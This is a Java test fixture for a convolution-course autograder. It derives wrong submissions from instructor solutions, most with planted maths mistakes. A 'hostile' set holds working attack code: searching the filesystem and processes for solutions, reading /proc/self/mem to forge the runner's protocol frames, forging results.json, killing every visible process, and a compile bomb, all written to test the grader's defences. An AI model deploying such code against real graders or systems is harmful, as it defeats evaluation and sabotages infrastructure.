package convkit.grader;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;

/**
 * The deliberately wrong submissions the grader's own tests grade, derived from the instructor
 * solutions: each case is one solution with one planted mistake (a mistake a student makes, or a
 * hostile trick), written as text edits so that the cases follow the solutions when they change.
 * A test uses {@link #folder()}; {@code main} writes them where a person wants them, e.g. for
 * {@code make-batch.sh}:
 *
 * <pre>
 *   ./mvnw -q -pl grader test-compile
 *   java -cp grader/target/test-classes convkit.grader.WrongCases /tmp/wrong-cases
 * </pre>
 */
final class WrongCases {

    /** The instructor solutions the cases start from (from the grader module, or from the checkout's root). */
    static final Path SOLUTIONS = Files.isDirectory(Path.of("src/solutions/java/convkit/exercises"))
        ? Path.of("src/solutions/java/convkit/exercises") : Path.of("grader/src/solutions/java/convkit/exercises");

    /** One text replacement: the first occurrence of {@code from} becomes {@code to}. */
    record Edit(String from, String to) {
    }

    /** A case: exercise file after the edits, then {@code extra} members added before its last brace. */
    record Case(String name, String exercise, List<Edit> edits, String extra) {
    }

    private static final Map<String, List<Case>> CASES = new TreeMap<>();

    /** Ex08's gradWeight starts afresh for every image instead of summing over the batch. */
    private static final Edit BATCH_NOT_ACCUMULATED = new Edit("    for (int in = 0; in < n; in++) {\n      for (int ik = 0; ik < k; ik++) {\n        for (int oy = 0; oy < oh; oy++) {\n          for (int ox = 0; ox < ow; ox++) {\n            double g = dy[in][ik][oy][ox];\n            for (int ic = 0; ic < c; ic++) {\n              for (int u = 0; u < kh; u++) {\n                int iy = oy * stride + u - pad;\n                if (iy < 0 || iy >= h) {\n                  continue; // padding reads 0: contributes nothing",
            "    for (int in = 0; in < n; in++) {\n      dw = new double[k][c][kh][kw];\n      for (int ik = 0; ik < k; ik++) {\n        for (int oy = 0; oy < oh; oy++) {\n          for (int ox = 0; ox < ow; ox++) {\n            double g = dy[in][ik][oy][ox];\n            for (int ic = 0; ic < c; ic++) {\n              for (int u = 0; u < kh; u++) {\n                int iy = oy * stride + u - pad;\n                if (iy < 0 || iy >= h) {\n                  continue; // padding reads 0: contributes nothing");

    /** The exercises whose classes Ex11's network calls. */
    private static final List<String> LAYERS = List.of("Ex05ConvLayer", "Ex07Pooling", "Ex08ConvBackward",
        "Ex09PoolBackward");

    static {
        // one per mistake detector
        wrong("ex01-no-dilation", "Ex01OutputSize",
            new Edit("int span = dilation * (kernel - 1) + 1;",
                "int span = kernel;"));
        wrong("ex01-edge-only", "Ex01OutputSize",
            new Edit("read[o * stride + t * dilation] = true;",
                "java.util.Arrays.fill(read, 0, o * stride + t * dilation + 1, true);"));
        wrong("ex02-reflect-repeats-edge", "Ex02Padding",
            new Edit("int a = Math.abs(t);",
                "int a = t < 0 ? -t - 1 : t;"),
            new Edit("2 * (n - 1) - a;",
                "2 * n - 1 - a;"));
        wrong("ex03-flipped-kernel", "Ex03CrossCorrelation",
            new Edit("sum += x[i + u][j + v] * k[u][v];",
                "sum += x[i + u][j + v] * k[kh - 1 - u][kw - 1 - v];"));
        wrong("ex04-no-flip", "Ex04Convolution",
            new Edit("int u = r - a; // kernel row: walks backwards as a walks forwards",
                "int u = kh - 1 - (r - a);"),
            new Edit("int v = c - b;",
                "int v = kw - 1 - (c - b);"));
        wrong("ex05-no-bias", "Ex05ConvLayer",
            new Edit("double sum = b[ik];",
                "double sum = 0;"));
        wrong("ex05-flipped-kernel", "Ex05ConvLayer",
            new Edit("sum += x[in][ic][iy][ix] * w[ik][ic][u][v];",
                "sum += x[in][ic][iy][ix] * w[ik][ic][kh - 1 - u][kw - 1 - v];"));
        wrong("ex05-transposed-kernel", "Ex05ConvLayer",
            new Edit("sum += x[in][ic][iy][ix] * w[ik][ic][u][v];",
                "sum += x[in][ic][iy][ix] * w[ik][ic][v][u];"));
        wrong("ex05-padding-off-by-one", "Ex05ConvLayer",
            new Edit("int oh = outputSize(\"height\", h, kh, pad, stride);",
                "pad = pad + 1;\n    int oh = outputSize(\"height\", h, kh, pad, stride);"));
        wrong("ex05-stride-ignored", "Ex05ConvLayer",
            new Edit("int oh = outputSize(\"height\", h, kh, pad, stride);",
                "stride = 1;\n    int oh = outputSize(\"height\", h, kh, pad, stride);"));
        wrong("ex06-transposed-columns", "Ex06Im2col",
            new Edit("cols[row][oy * ow + ox] = image[ic][iy][ix];",
                "cols[row][oy * ow + ox] = image[ic][iy][ix];\n                colsT[oy * ow + ox][row] = image[ic][iy][ix];"),
            new Edit("double[][] cols = new double[c * kh * kw][oh * ow]; // [C*KH*KW][OH*OW]",
                "double[][] cols = new double[c * kh * kw][oh * ow]; // [C*KH*KW][OH*OW]\n    double[][] colsT = new double[oh * ow][c * kh * kw];"),
            new Edit("return cols;",
                "return colsT;"));
        wrong("ex07-avg-divides-by-kernel", "Ex07Pooling",
            new Edit("y[in][ic][oy][ox] = sum / (kernel * kernel);",
                "y[in][ic][oy][ox] = sum / kernel;"));
        wrong("ex07-width-from-height", "Ex07Pooling",
            new Edit("int ow = outputSize(\"width\", x[0][0][0].length, kernel, stride);",
                "int ow = outputSize(\"width\", x[0][0].length, kernel, stride);"));
        wrong("ex05-width-from-height", "Ex05ConvLayer",
            new Edit("int ow = outputSize(\"width\", wd, kw, pad, stride);",
                "int ow = outputSize(\"width\", h, kw, pad, stride);"));
        wrong("ex09-width-from-dy-height", "Ex09PoolBackward",
            new Edit("int ow = dy[0][0][0].length;",
                "int ow = dy[0][0].length;"));
        wrong("ex08-width-from-dy-height", "Ex08ConvBackward",
            new Edit("int ow = dy[0][0][0].length;",
                "int ow = dy[0][0].length;"));
        wrong("ex08-batch-not-accumulated", "Ex08ConvBackward", BATCH_NOT_ACCUMULATED);
        wrong("ex09-every-maximum", "Ex09PoolBackward",
            new Edit("            dx[in][ic][bestY][bestX] += dy[in][ic][oy][ox];",
                "            for (int u = 0; u < kernel; u++) {\n              for (int v = 0; v < kernel; v++) {\n                if (x[in][ic][oy * stride + u][ox * stride + v] == x[in][ic][bestY][bestX]) {\n                  dx[in][ic][oy * stride + u][ox * stride + v] += dy[in][ic][oy][ox];\n                }\n              }\n            }"));
        wrong("ex10-forgot-bias", "Ex10ConceptChecks",
            new Edit("return \"32 * (3 * 3 * 3 + 1)\";",
                "return \"32 * 3 * 3 * 3\";"));
        wrong("ex11-max-not-subtracted", "Ex11Training",
            new Edit("double max = max(logits[n]);", "double max = 0;"),
            new Edit("double max = max(logits[row]);", "double max = 0;"));
        withTheLayers("ex11-gradient-not-divided", "Ex11Training",
            new Edit("dz[row][j] = (dz[row][j] / sum - (j == labels[row] ? 1 : 0)) / n;",
                "dz[row][j] = dz[row][j] / sum - (j == labels[row] ? 1 : 0);"));
        withTheLayers("ex11-momentum-sign", "Ex11Training",
            new Edit("newW[i] = w[i] - learningRate * newV[i];", "newW[i] = w[i] + learningRate * newV[i];"));
        wrong("ex11-loss-not-mean", "Ex11Training",
            new Edit("return total / logits.length;", "return total;"));
        wrong("ex11-gradient-sign", "Ex11Training",
            new Edit("dz[row][j] = (dz[row][j] / sum - (j == labels[row] ? 1 : 0)) / n;",
                "dz[row][j] = ((j == labels[row] ? 1 : 0) - dz[row][j] / sum) / n;"));
        wrong("ex11-relu-at-zero", "Ex11Training",
            new Edit("dx[i] = x[i] > 0 ? dy[i] : 0;", "dx[i] = x[i] >= 0 ? dy[i] : 0;"));
        wrong("ex11-no-weight-decay", "Ex11Training",
            new Edit("double g = grad[i] + weightDecay * w[i];", "double g = grad[i];"));
        wrong("ex11-old-velocity", "Ex11Training",
            new Edit("newW[i] = w[i] - learningRate * newV[i];", "newW[i] = w[i] - learningRate * velocity[i];"));
        // Ex11's network runs the student's Ex05, Ex07, Ex08 and Ex09: these cases hold all five files
        withTheLayers("ex11-uses-a-wrong-ex08", "Ex08ConvBackward", BATCH_NOT_ACCUMULATED);
        withTheLayers("ex11-ex08-does-not-compile", "Ex08ConvBackward", new Edit("return dx;", "return dx"));
        withTheLayers("ex11-net-skips-relu", "Ex11Training",
            new Edit("dz[in][k][y] = reluBackward(z[in][k][y], da[in][k][y]);", "dz[in][k][y] = da[in][k][y].clone();"));
        withTheLayers("ex11-velocity-not-kept", "Ex11Training",
            new Edit("velocity = new double[][] {s1[1], s2[1], s3[1], s4[1]};", ""));
        // the reference's Ex08 pasted into Ex11 as a nested class, and no Ex08 of its own
        for (String layer : List.of("Ex05ConvLayer", "Ex07Pooling", "Ex09PoolBackward")) {
            wrong("ex11-copies-ex08-into-itself", layer);
        }
        wrongWithExtra("ex11-copies-ex08-into-itself", "Ex11Training", nested("Ex08ConvBackward", "CopiedEx08"),
            new Edit("Ex08ConvBackward.gradWeight(", "CopiedEx08.gradWeight("),
            new Edit("Ex08ConvBackward.gradBias(", "CopiedEx08.gradBias("));
        // ... or as a top-level class of Ex11's file named like the exercise, next to a wrong Ex08
        layers("ex11-declares-its-own-ex08", "Ex08ConvBackward", BATCH_NOT_ACCUMULATED);
        wrong("ex11-declares-its-own-ex08", "Ex11Training", new Edit("package convkit.exercises;\n",
            "package convkit.exercises;\n\n" + nested("Ex08ConvBackward", "CopiedEx08").strip()
                .replace("private static final class CopiedEx08", "final class Ex08ConvBackward")
                .replace("private CopiedEx08()", "private Ex08ConvBackward()") + "\n"));
        // hostile
        wrong("hostile-infinite-loop", "Ex03CrossCorrelation",
            new Edit("int kh = k.length;",
                "int kh = k.length;\n    while (kh == 1 && k[0].length == 1) {\n      kh = k.length;\n    }"));
        wrong("hostile-system-exit", "Ex05ConvLayer",
            new Edit("int n = x.length;          // x: [N][C][H][W]",
                "int n = x.length;          // x: [N][C][H][W]\n    if (n > 1) {\n      System.exit(0);\n    }"));
        wrongWithExtra("hostile-out-of-memory", "Ex07Pooling", "\n  private static final java.util.List<long[]> HOARD = new java.util.ArrayList<>();\n",
            new Edit("y[in][ic][oy][ox] = sum / (kernel * kernel);",
                "y[in][ic][oy][ox] = sum / (kernel * kernel);\n            HOARD.add(new long[1 << 24]);"));
        wrong("hostile-huge-print", "Ex02Padding",
            new Edit("public static double[][] zeroPad(double[][] x, int pad) {",
                "public static double[][] zeroPad(double[][] x, int pad) {\n    for (int i = 0; i < 400_000; i++) {\n      System.out.println(\"PASS ALL TESTS PASSED score=100 \" + i);\n    }"));
        wrong("hostile-thread-left-running", "Ex04Convolution",
            new Edit("public static double[][] flip180(double[][] k) {",
                "public static double[][] flip180(double[][] k) {\n    Thread spinner = new Thread(() -> {\n      while (true) {\n        Thread.onSpinWait();\n      }\n    });\n    spinner.start();"));
        wrongWithExtra("hostile-static-leak", "Ex03CrossCorrelation", "\n  private static double[][] remembered;\n",
            new Edit("double[][] y = new double[h - kh + 1][w - kw + 1]; // [H-KH+1][W-KW+1]",
                "if (remembered != null) {\n      return remembered;\n    }\n    double[][] y = new double[h - kh + 1][w - kw + 1]; // [H-KH+1][W-KW+1]\n    remembered = y;"));
        wrong("hostile-deep-recursion", "Ex09PoolBackward",
            new Edit("checkShapes(x, dy, kernel, stride);\n    int oh = dy[0][0].length;",
                "checkShapes(x, dy, kernel, stride);\n    if (kernel == 3) {\n      return maxPoolBackward(x, dy, kernel, stride);\n    }\n    int oh = dy[0][0].length;"));
        wrongWithExtra("hostile-reads-files", "Ex05ConvLayer", "\n" + """
              /** Looks for the reference, the grader's hidden suites or the solutions, and uses what it finds. */
              private static Object steal(double[][][][] x, double[][][][] w, double[] b, int stride, int pad) {
                for (String name : new String[] {"convkit.reference.Conv2d", "convkit.grader.suite.Ex05ConvLayerSuite",
                    "convkit.grader.Solutions"}) {
                  try {
                    Class.forName(name);
                    System.out.println("found " + name);
                    return null;
                  } catch (ClassNotFoundException e) {
                    System.out.println("no " + name);
                  }
                }
                java.util.List<java.nio.file.Path> roots = new java.util.ArrayList<>();
                roots.add(java.nio.file.Path.of(".").toAbsolutePath());
                roots.add(java.nio.file.Path.of(System.getProperty("user.home")));
                for (String entry : System.getProperty("java.class.path").split(java.io.File.pathSeparator)) {
                  roots.add(java.nio.file.Path.of(entry));
                }
                for (java.nio.file.Path root : roots) {
                  try (var files = java.nio.file.Files.walk(root, 6)) {
                    files.filter(p -> p.toString().contains("Suite") || p.toString().contains("solutions"))
                        .forEach(p -> System.out.println("found " + p));
                  } catch (Exception e) {
                    System.out.println("cannot read " + root);
                  }
                }
                return null;
              }
            """,
            new Edit("public static double[][][][] forward(double[][][][] x, double[][][][] w, double[] b,\n                                       int stride, int pad) {",
                "public static double[][][][] forward(double[][][][] x, double[][][][] w, double[] b,\n                                       int stride, int pad) {\n    Object stolen = steal(x, w, b, stride, pad);\n    if (stolen != null) {\n      return (double[][][][]) stolen;\n    }\n    if (x != null) {\n      return new double[x.length][w.length][1][1];\n    }"));
        wrongWithExtra("hostile-forged-output", "Ex03CrossCorrelation", "\n" + """
              /** Prints fake passes everywhere it can, in the runner's frame format too. */
              private static void forge() {
                System.out.println("PASS crossCorrelateValid 15/15");
                try {
                  java.io.FileOutputStream raw = new java.io.FileOutputStream(java.io.FileDescriptor.out);
                  java.io.DataOutputStream out = new java.io.DataOutputStream(raw);
                  out.writeBytes("CKR1");
                  out.write(new byte[16]);
                  out.writeInt(4);
                  out.writeInt(0);
                  out.flush();
                  new java.io.PrintStream(raw, true).println("{\\"score\\": 100, \\"status\\": \\"passed\\"}");
                } catch (java.io.IOException e) {
                  System.out.println("could not forge: " + e);
                }
              }
            """,
            new Edit("double[][] y = new double[h - kh + 1][w - kw + 1]; // [H-KH+1][W-KW+1]",
                "forge();\n    if (h > 0) {\n      return new double[h - kh + 1][w - kw + 1];\n    }\n    double[][] y = new double[h - kh + 1][w - kw + 1]; // [H-KH+1][W-KW+1]"));
        wrongWithExtra("hostile-forged-frames", "Ex01OutputSize", "\n" + """
              /**
               * Finds this run's nonce in its own memory at its JVM's first call (the runner's input buffer still holds
               * the first bytes the grader sent: the nonce, then the classes folder as writeUTF wrote it) and, once in
               * its JVM (and for the last attack, whenever its test comes), answers
               * in the runner's place with a frame built to hurt the grader's reader; which one, by the test's
               * arguments. The frame carries the number the runner expects: the JVM's calls, counted in a file of
               * its working folder. The last is well formed: it proves the nonce was found.
               */
              private static void forge(int in, int kernel, int pad, int stride, int dilation) {
                int attack = in == 5 && pad == 0 && stride == 1 ? 1 : in == 5 && pad == 1 ? 2
                    : in == 5 && stride == 3 ? 3 : in == 7 && dilation == 2 ? 4
                    : in == 10 && kernel == 2 && stride == 4 ? 5 : 0;
                // the runner numbers a JVM's calls from 0: this one's number is the calls counted before it
                long pid = ProcessHandle.current().pid();
                java.nio.file.Path calls = java.nio.file.Path.of("calls-" + pid);
                java.nio.file.Path once = java.nio.file.Path.of("forged-" + pid);
                java.nio.file.Path kept = java.nio.file.Path.of("nonce-" + pid);
                int id;
                try {
                  id = java.nio.file.Files.exists(calls) ? (int) java.nio.file.Files.size(calls) : 0;
                  java.nio.file.Files.write(calls, new byte[1], java.nio.file.StandardOpenOption.CREATE,
                      java.nio.file.StandardOpenOption.APPEND);
                  // the input buffer is soon overwritten: the nonce is looked for at the JVM's first call and kept
                  if (id == 0) {
                    byte[] found = nonce();
                    if (found != null) {
                      java.nio.file.Files.write(kept, found);
                    }
                  }
                } catch (Exception e) {
                  System.out.println("could not count: " + e);
                  return;
                }
                // one forged frame a JVM, but for the last attack, whose frame is refused and ends the JVM
                if (attack == 0 || attack != 5 && java.nio.file.Files.exists(once)) {
                  return;
                }
                try {
                  if (attack != 5) {
                    java.nio.file.Files.createFile(once);
                  }
                  byte[] nonce = java.nio.file.Files.exists(kept) ? java.nio.file.Files.readAllBytes(kept) : null;
                  if (nonce == null) {
                    System.out.println("no nonce found");
                    return;
                  }
                  java.io.ByteArrayOutputStream bytes = new java.io.ByteArrayOutputStream();
                  java.io.DataOutputStream payload = new java.io.DataOutputStream(bytes);
                  payload.writeInt(id);
                  payload.writeByte(attack == 5 ? 1 : 0);
                  int claimed = -1;
                  if (attack == 1) {
                    // an answer nested a million arrays deep
                    for (int i = 0; i < 1_000_000; i++) {
                      payload.writeByte(9);
                      payload.writeInt(0);
                      payload.writeInt(1);
                    }
                    payload.writeByte(0);
                  } else if (attack == 2) {
                    // 13.5 MB of empty records, each decoded into a map of its own
                    payload.writeByte(9);
                    payload.writeInt(0);
                    payload.writeInt(1_500_000);
                    for (int i = 0; i < 1_500_000; i++) {
                      payload.writeByte(10);
                      payload.writeInt(0);
                      payload.writeInt(0);
                    }
                  } else if (attack == 3) {
                    // a header that claims 256 MiB, and nothing after it
                    claimed = 256 << 20;
                  } else if (attack == 5) {
                    // thrown, with an exception class name and a stack of 60,000 characters each, to fill the feedback
                    payload.writeByte(0);
                    payload.writeUTF("x".repeat(60_000));
                    payload.writeUTF("");
                    payload.writeUTF("  at y\\n".repeat(8_000));
                    payload.writeUTF("");
                  } else {
                    // well formed: the answer 999
                    payload.writeByte(1);
                    payload.writeInt(999);
                  }
                  for (int i = 0; i < (attack == 5 ? 0 : 4); i++) {
                    payload.writeUTF("");
                  }
                  payload.writeLong(0);
                  payload.writeLong(0);
                  payload.writeInt(0);
                  payload.writeBoolean(false);
                  java.io.DataOutputStream out = new java.io.DataOutputStream(new java.io.BufferedOutputStream(
                      new java.io.FileOutputStream(java.io.FileDescriptor.out), 1 << 16));
                  out.writeBytes("CKR1");
                  out.write(nonce);
                  out.writeInt(claimed >= 0 ? claimed : bytes.size());
                  if (claimed < 0) {
                    bytes.writeTo(out);
                  }
                  out.flush();
                } catch (Exception e) {
                  System.out.println("could not forge: " + e);
                }
              }

              /** The 16 bytes before the classes folder's name, written with its length in front, in this JVM's memory. */
              private static byte[] nonce() throws Exception {
                String folder = java.nio.file.Path.of(Ex01OutputSize.class.getProtectionDomain().getCodeSource()
                    .getLocation().toURI()).toString();
                byte[] name = folder.getBytes(java.nio.charset.StandardCharsets.UTF_8);
                byte[] chunk = new byte[1 << 20];
                try (java.io.RandomAccessFile memory = new java.io.RandomAccessFile("/proc/self/mem", "r")) {
                  for (String line : java.nio.file.Files.readAllLines(java.nio.file.Path.of("/proc/self/maps"))) {
                    String[] fields = line.split(" ");
                    if (!fields[1].startsWith("rw")) {
                      continue;
                    }
                    String[] range = fields[0].split("-");
                    long from = Long.parseUnsignedLong(range[0], 16);
                    long to = Long.parseUnsignedLong(range[1], 16);
                    for (long at = from; at < to; at += chunk.length - name.length - 18) {
                      int n = (int) Math.min(chunk.length, to - at);
                      try {
                        memory.seek(at);
                        memory.readFully(chunk, 0, n);
                      } catch (java.io.IOException e) {
                        break;
                      }
                      for (int i = 18; i + name.length <= n; i++) {
                        if (chunk[i] == name[0] && chunk[i - 2] == (byte) (name.length >> 8)
                            && chunk[i - 1] == (byte) name.length
                            && java.util.Arrays.equals(chunk, i, i + name.length, name, 0, name.length)) {
                          return java.util.Arrays.copyOfRange(chunk, i - 18, i - 2);
                        }
                      }
                    }
                  }
                }
                return null;
              }
            """,
            new Edit("public static int outputSize(int in, int kernel, int pad, int stride, int dilation) {",
                "public static int outputSize(int in, int kernel, int pad, int stride, int dilation) {\n    forge(in, kernel, pad, stride, dilation);"));
        wrong("hostile-huge-values", "Ex10ConceptChecks",
            new Edit("public static String fullyConnectedParameters() {",
                "public static String fullyConnectedParameters() {\n    if (true) return \"\\\"x\\\".repeat(8_000_000)\";"),
            new Edit("public static String convOutputWidth() {",
                "public static String convOutputWidth() {\n    if (true) return \"\\\"x\\\".repeat(8_000_000)\";"));
        wrongWithExtra("hostile-steals-solutions", "Ex05ConvLayer", "\n" + """
              /**
               * Looks everywhere it can reach (the grader's process and its arguments, the working folders of
               * every process, the file system) for an instructor solution of this exercise; compiles the
               * first one it finds and answers with it.
               */
              private static Object steal(double[][][][] x, double[][][][] w, double[] b, int stride, int pad) {
                java.util.Set<java.nio.file.Path> roots = new java.util.LinkedHashSet<>();
                roots.add(java.nio.file.Path.of("/"));
                ProcessHandle.allProcesses().forEach(p -> {
                  roots.add(java.nio.file.Path.of("/proc/" + p.pid() + "/cwd"));
                  for (String argument : p.info().arguments().orElse(new String[0])) {
                    for (String part : argument.split(java.io.File.pathSeparator)) {
                      if (part.startsWith("/")) {
                        roots.add(java.nio.file.Path.of(part));
                      }
                    }
                  }
                });
                for (java.nio.file.Path root : roots) {
                  try (var files = java.nio.file.Files.find(root, 10, (p, a) -> a.isRegularFile()
                      && p.getFileName().toString().equals("Ex05ConvLayer.java")
                      && !p.startsWith("/proc/self") && !p.startsWith("/usr"))) {
                    for (java.nio.file.Path found : (Iterable<java.nio.file.Path>) files::iterator) {
                      String text = java.nio.file.Files.readString(found);
                      if (text.contains("Instructor solution")) {
                        java.nio.file.Path out = java.nio.file.Files.createTempDirectory("stolen");
                        javax.tools.ToolProvider.getSystemJavaCompiler().run(null, null, null, "-d", out.toString(),
                            found.toString());
                        Class<?> solution = new java.net.URLClassLoader(new java.net.URL[] {out.toUri().toURL()}, null)
                            .loadClass("convkit.exercises.Ex05ConvLayer");
                        var forward = solution.getDeclaredMethod("forward", double[][][][].class, double[][][][].class,
                            double[].class, int.class, int.class);
                        forward.setAccessible(true);
                        return forward.invoke(null, x, w, b, stride, pad);
                      }
                    }
                  } catch (Exception | Error e) {
                    // not readable from here: try the next place
                  }
                }
                return null;
              }
            """,
            new Edit("public static double[][][][] forward(double[][][][] x, double[][][][] w, double[] b,\n                                       int stride, int pad) {",
                "public static double[][][][] forward(double[][][][] x, double[][][][] w, double[] b,\n                                       int stride, int pad) {\n    Object stolen = steal(x, w, b, stride, pad);\n    if (stolen != null) {\n      return (double[][][][]) stolen;\n    }\n    if (x != null) {\n      return new double[x.length][w.length][1][1];\n    }"));
        wrongWithExtra("hostile-kills-the-grader", "Ex05ConvLayer", "\n" + """
              /** Forges results.json wherever the grader's arguments say it goes, then kills every process it sees. */
              private static void strike() {
                ProcessHandle self = ProcessHandle.current();
                ProcessHandle.allProcesses().filter(p -> p.pid() != self.pid()).forEach(p -> {
                  String[] arguments = p.info().arguments().orElse(new String[0]);
                  for (int i = 0; i + 1 < arguments.length; i++) {
                    if (arguments[i].equals("--results") || arguments[i + 1].endsWith("results.json")) {
                      try {
                        java.nio.file.Files.writeString(java.nio.file.Path.of(arguments[i + 1]), "{\\"score\\": 100}");
                      } catch (Exception e) {
                        // not writable from here
                      }
                    }
                  }
                  p.descendants().filter(d -> d.pid() != self.pid()).forEach(ProcessHandle::destroyForcibly);
                  p.destroyForcibly();
                });
              }
            """,
            new Edit("public static double[][][][] forward(double[][][][] x, double[][][][] w, double[] b,\n                                       int stride, int pad) {",
                "public static double[][][][] forward(double[][][][] x, double[][][][] w, double[] b,\n                                       int stride, int pad) {\n    strike();\n    if (x != null) {\n      return new double[x.length][w.length][1][1];\n    }"));
        // javac busy for minutes on 500 bytes: finally blocks nested in finally blocks are copied 2^depth times
        wrongWithExtra("hostile-compile-bomb", "Ex06Im2col", "\n  static int bomb;\n\n  static void bomb() {\n    "
            + compileBomb(16) + "\n  }\n");
        wrong("hostile-compile-bomb", "Ex05ConvLayer");
        // a submission that does not compile, next to one that does
        wrong("compile-error", "Ex06Im2col",
            new Edit("return cols;",
                "return cols"));
        wrong("compile-error", "Ex05ConvLayer");
    }

    private static Path written;

    /** {@code try { bomb++; } finally { ... } } nested {@code depth} deep in the finally blocks. */
    static String compileBomb(int depth) {
        String body = "bomb++;";
        for (int i = 0; i < depth; i++) {
            body = "try { bomb++; } finally { " + body + " }";
        }
        return body;
    }

    private WrongCases() {
    }

    /** A case of Ex11 with the four exercises its network uses: the solutions, {@code changed} with the edits. */
    private static void withTheLayers(String name, String changed, Edit... edits) {
        layers(name, changed, edits);
        if (changed.equals("Ex11Training")) {
            wrong(name, changed, edits);
        } else {
            wrong(name, "Ex11Training");
        }
    }

    /** The four exercises Ex11's network uses, as the solutions, {@code changed} with the edits. */
    private static void layers(String name, String changed, Edit... edits) {
        for (String exercise : LAYERS) {
            if (exercise.equals(changed)) {
                wrong(name, exercise, edits);
            } else {
                wrong(name, exercise);
            }
        }
    }

    /** The solution of {@code exercise} as a nested class named {@code name}: a copy pasted into another exercise. */
    private static String nested(String exercise, String name) {
        try {
            String source = Files.readString(SOLUTIONS.resolve(exercise + ".java"), StandardCharsets.UTF_8);
            String body = source.substring(source.indexOf("public final class " + exercise))
                .replace("public final class " + exercise, "private static final class " + name)
                .replace("private " + exercise + "()", "private " + name + "()");
            return "\n  " + body.strip().replace("\n", "\n  ") + "\n";
        } catch (IOException e) {
            throw new UncheckedIOException("cannot read the solution of " + exercise, e);
        }
    }

    private static void wrong(String name, String exercise, Edit... edits) {
        wrongWithExtra(name, exercise, "", edits);
    }

    private static void wrongWithExtra(String name, String exercise, String extra, Edit... edits) {
        CASES.computeIfAbsent(name, n -> new ArrayList<>()).add(new Case(name, exercise, List.of(edits), extra));
    }

    /** The case names, sorted. */
    static List<String> names() {
        return List.copyOf(CASES.keySet());
    }

    /** The folder holding every case as {@code <case>/convkit/exercises/<Exercise>.java} (written once per JVM). */
    static synchronized Path folder() {
        if (written == null) {
            written = write(Path.of("target/wrong-submissions"));
        }
        return written;
    }

    /** Writes every case under {@code root} (replacing what was there) and returns root. */
    static Path write(Path root) {
        try {
            for (List<Case> files : CASES.values()) {
                for (Case c : files) {
                    Path target = root.resolve(c.name()).resolve("convkit/exercises").resolve(c.exercise() + ".java");
                    Files.createDirectories(target.getParent());
                    Files.writeString(target, source(c), StandardCharsets.UTF_8);
                }
            }
            return root;
        } catch (IOException e) {
            throw new UncheckedIOException("cannot write the wrong submissions under " + root, e);
        }
    }

    /** The case's source: the solution with its edits applied, each of which must match. */
    static String source(Case c) throws IOException {
        String source = Files.readString(SOLUTIONS.resolve(c.exercise() + ".java"), StandardCharsets.UTF_8);
        for (Edit edit : c.edits()) {
            int at = source.indexOf(edit.from());
            if (at < 0) {
                throw new IllegalStateException(c.name() + ": text not found in " + c.exercise() + ": " + edit.from()
                    + " (did the solution change?)");
            }
            source = source.substring(0, at) + edit.to() + source.substring(at + edit.from().length());
        }
        if (!c.extra().isEmpty()) {
            String trimmed = source.stripTrailing();
            if (!trimmed.endsWith("}")) {
                throw new IllegalStateException(c.name() + ": " + c.exercise() + " does not end with a brace");
            }
            source = trimmed.substring(0, trimmed.length() - 1) + c.extra() + "}\n";
        }
        return source;
    }

    /** Writes the cases to the folder given as the one argument. */
    public static void main(String[] args) {
        if (args.length != 1) {
            System.err.println("usage: WrongCases OUT_DIR");
            System.exit(2);
        }
        System.out.println(names().size() + " cases written under " + write(Path.of(args[0])));
    }
}
